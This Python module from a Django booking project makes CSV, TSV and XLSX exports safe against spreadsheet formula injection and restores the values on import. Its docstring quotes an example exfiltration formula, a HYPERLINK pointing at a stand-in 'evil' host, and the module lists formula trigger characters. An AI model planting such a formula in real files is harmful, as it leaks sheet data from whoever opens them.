"""Files people open in Excel: one rule for formula cells, UTF-8 with a BOM, typed XLSX cells.

Everything the project writes as CSV, TSV or XLSX goes through here: the API renderers
(booking/api/reports.py) and the admin's django-import-export formats (IMPORT_EXPORT_FORMATS
in settings). The rules:

- Formula injection (OWASP "CSV injection", CWE-1236): Excel, LibreOffice and Google Sheets
  read a cell whose first character is ``= + - @``, tab or CR as a formula, so a booking
  purpose ``=HYPERLINK("http://evil/?x="&A2,"열기")`` would become a live link that leaks the
  sheet. :func:`safe_cell` puts a single quote in front of such *text* (``'=HYPERLINK(...)``).
  Only ``str`` values: the number -5 stays a number; the text "-5" is neutralised. Text that
  already has quotes before such a character gets one more, so that an import can undo the
  rule exactly.
- XLSX gets the same quoted text, written as an explicit string cell. The string type alone
  keeps Excel from evaluating the cell when the file opens; the quote keeps it inert after
  that too: when someone edits the cell (Excel re-parses it on Enter), copies it out, or saves
  the sheet as CSV. It also makes both formats carry the same value byte for byte. Forcing the
  string type also stops openpyxl from turning the text "#N/A" into an error cell, and
  characters XML cannot hold become U+FFFD instead of failing the whole export.
- CSV and TSV are UTF-8 with a byte-order mark (``utf-8-sig``): Excel on Korean Windows reads
  a CSV without one as CP949 and shows Korean names and purposes as mojibake.
- Imports through the admin take the quote off again (:func:`restore_cell`), so an export that
  is edited and imported back keeps its values.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from import_export.formats import base_formats

#: A text cell starting with one of these is read as a formula by spreadsheet programs.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _formula_like(text: str) -> bool:
    # Quotes already in front count too, so that restore_cell(safe_cell(x)) == x for every x.
    return text.lstrip(QUOTE).startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """`value`, with a quote in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and _formula_like(value):
        return QUOTE + value
    return value


def restore_cell(value: Any) -> Any:
    """Undo :func:`safe_cell` on a value read back from a file we (or Excel) wrote."""
    if isinstance(value, str) and value.startswith(QUOTE) and _formula_like(value):
        return value[1:]
    return value


def csv_text(rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> str:
    """The rows as CSV text that starts with a BOM, so that encoding it as UTF-8 gives utf-8-sig."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    return buffer.getvalue()


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, title: str = "Sheet") -> bytes:
    """One sheet holding the rows (the first is the header, frozen); numbers stay numbers."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.workbook.child import INVALID_TITLE_REGEX

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=INVALID_TITLE_REGEX.sub("-", title)[:31] or "Sheet")
    sheet.freeze_panes = "A2"

    def cell(value: Any) -> Any:
        if not isinstance(value, str):
            return value  # numbers, dates, booleans, None: openpyxl types them
        text = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", safe_cell(value))
        typed = WriteOnlyCell(sheet, value=text)
        typed.data_type = "s"  # never a formula ("=") or an error ("#N/A")
        return typed

    for row in rows:
        sheet.append([cell(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- django-import-export formats for the admin ------------------------------------------------


def _restored(dataset, *, empty: Any = None):
    """A copy of an imported dataset with :func:`restore_cell` applied to every value.

    `empty` replaces None: an empty XLSX cell reads back as None, which a text column cannot
    hold, where the same column read from CSV is "".
    """
    import tablib

    restored = tablib.Dataset(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        restored.append([empty if v is None else restore_cell(v) for v in row])
    return restored


def _table(dataset) -> list[Sequence[Any]]:
    return [dataset.headers or [], *dataset]


class SafeCSV(base_formats.CSV):
    """CSV with a BOM and neutralised formula cells; the admin encodes the text as UTF-8."""

    CONTENT_TYPE = CSV_CONTENT_TYPE
    DELIMITER = ","

    def export_data(self, dataset, **kwargs):
        return csv_text(_table(dataset), delimiter=self.DELIMITER)

    def create_dataset(self, in_stream, **kwargs):
        return _restored(super().create_dataset(in_stream, **kwargs))


class SafeTSV(SafeCSV):
    TABLIB_MODULE = "tablib.formats._tsv"
    CONTENT_TYPE = "text/tab-separated-values; charset=utf-8"
    DELIMITER = "\t"


class SafeXLSX(base_formats.XLSX):
    """XLSX through :func:`xlsx_bytes`: typed string cells, neutralised formulas."""

    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(_table(dataset), title=dataset.title or "Sheet")

    def create_dataset(self, in_stream):
        return _restored(super().create_dataset(in_stream), empty="")


# The admin exports native values (numbers as numbers) only for the exact classes in
# BINARY_FORMATS (`type(fmt) in BINARY_FORMATS`), so the subclass has to be listed there.
if SafeXLSX not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(SafeXLSX)

#: What the admin offers for import and export. HTML is left out: Excel opens an HTML table as
#: a sheet and evaluates its formula cells, and nobody needs it. JSON and YAML run nothing.
ADMIN_FORMATS = [SafeCSV, SafeXLSX, SafeTSV, base_formats.JSON, base_formats.YAML]
